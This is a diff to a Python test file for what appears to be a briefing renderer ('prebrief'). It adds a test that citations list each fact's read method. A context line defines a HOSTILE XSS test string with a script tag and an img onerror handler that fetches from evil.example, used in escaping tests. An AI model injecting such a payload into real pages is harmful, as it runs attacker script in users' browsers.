@@ -4,15 +4,18 @@ from __future__ import annotations
 
 import json
 import re
+from dataclasses import replace
 from importlib import resources
 
 import jsonschema
 import pytest
 
 from factories import briefing, rich_briefing, signal
-from prebrief.models import Identity, SourceResult, Status
+from prebrief.models import (Classification, Evidence, Fact, Identity, Signal, SourceResult,
+                             Status)
 from prebrief.render import md_escape, render, safe_url
 from prebrief.report import SCHEMA_VERSION
+from prebrief.sheet import merged_methods
 
 HOSTILE = '<script>alert(1)</script><img src=x onerror="fetch(\'//evil.example\')">'
 
@@ -162,3 +165,21 @@ def test_their_summary_is_in_the_markdown_and_json_but_not_the_printed_page():
     data = json.loads(render(made, "json"))
     assert data["sections"]["career"]["summary"]["text"].startswith("I lead procurement")
     jsonschema.validate(data, schema())
+
+
+def test_a_citation_names_how_each_fact_it_covers_was_read():
+    # Two notes lines and two PDF sections share their file's number; the list must not give
+    # the first fact's method ("line 1") for all of them.
+    def note(text: str, line: int, sphere: str) -> Signal:
+        ev = Evidence("notes", f"user notes: line {line}", file="/home/u/notes.txt")
+        return Signal.from_fact(Fact("note", text, ev),
+                                Classification(sphere, None, None, 0.8, "test reason"))
+
+    signals = (note("Prefers short agendas", 10, "professional"),
+               note("Coaches the under-12 hockey team", 2, "personal"),
+               note("Met at Logimat 2026", 10, "professional"))
+    for fmt in ("md", "html"):
+        out = render(replace(briefing(), signals=signals), fmt)
+        assert "user notes: line 2, line 10" in out
+    assert merged_methods(["LinkedIn PDF: name", "LinkedIn PDF: Experience",
+                           "saved page"]) == "LinkedIn PDF: Experience, name; saved page"
